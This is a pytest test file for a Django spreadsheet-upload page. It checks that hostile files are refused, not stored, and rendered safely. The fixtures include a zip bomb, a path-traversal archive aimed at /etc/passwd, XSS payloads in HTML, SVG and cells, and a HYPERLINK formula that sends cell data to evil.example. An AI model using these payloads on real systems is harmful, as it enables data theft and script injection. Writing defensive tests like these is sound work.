"""Hostile files at the upload page: refused with words, kept nowhere, and never run."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from engine.models import StoredFile
from selection.models import NominationImport
from tenancy.scope import tenant_context
from tests.factories.selection import make_round
from tests.selection.import_setup import HEADINGS, person, workbook


@pytest.fixture
def page(essex) -> str:
    with tenant_context(essex):
        round_ = make_round()
    return reverse("selection:import-create", kwargs={"tenant": "essex", "public_id": round_.public_id})


def put(staff, page: str, name: str, content: bytes):
    return staff.client.post(page, {"file": SimpleUploadedFile(name, content)})


def bomb() -> bytes:
    """A workbook of a few kilobytes that unpacks to 60 MB."""
    out = BytesIO(workbook(HEADINGS, [person("Nora", "Nominee")]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/zeros.bin", b"\0" * (60 * 1024 * 1024))
    return out.getvalue()


def climbing() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../etc/passwd", "root")
    return out.getvalue()


HOSTILE = {
    "a zip bomb": ("log.xlsx", bomb),
    "a page": ("log.xlsx", lambda: b"<html><script>alert(1)</script></html>"),
    "an archive that climbs": ("log.xlsx", climbing),
    "a program": ("log.exe", lambda: b"MZ\x90\x00" + b"\0" * 200),
    "a picture that scripts": ("log.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "nothing": ("log.xlsx", lambda: b""),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_and_not_kept(essex, staff, page, what) -> None:
    name, content = HOSTILE[what]
    answer = put(staff, page, name, content())
    assert answer.status_code in {200, 422}
    assert "govuk-error-summary" in answer.content.decode()
    with tenant_context(essex):
        assert not StoredFile.objects.exists() and not NominationImport.objects.exists()


def test_the_same_page_takes_a_good_file(essex, staff, page) -> None:
    assert put(staff, page, "log.xlsx", workbook(HEADINGS, [person("Nora", "Nominee")])).status_code == 302
    with tenant_context(essex):
        assert NominationImport.objects.count() == 1


def test_a_formula_is_a_fault_of_its_row(essex, staff, page) -> None:
    row = person("Nora", "Nominee")
    row[4] = '=HYPERLINK("https://evil.example/?"&A1)'
    answer = put(staff, page, "log.xlsx", workbook(HEADINGS, [row, person("Otto", "Orderly")]))
    assert answer.status_code == 302
    with tenant_context(essex):
        (first, second) = NominationImport.objects.get().outcome["rows"]
    assert first["outcome"] == "wrong" and [r["code"] for r in first["reasons"]] == ["formula"]
    assert second["outcome"] == "good"


def test_markup_in_cells_comes_back_as_text(staff, page) -> None:
    row = person("Nora", "Nominee")
    row[4] = "<script>alert(1)</script>"
    row[3] = "<img src=x onerror=alert(1)>"
    answer = put(staff, page, "<b>log</b>.xlsx", workbook(HEADINGS, [row]))
    shown = staff.client.get(answer["Location"]).content.decode()
    assert "<script>alert" not in shown and "<img src=x" not in shown and "<b>log</b>" not in shown
    assert "&lt;img src=x" in shown
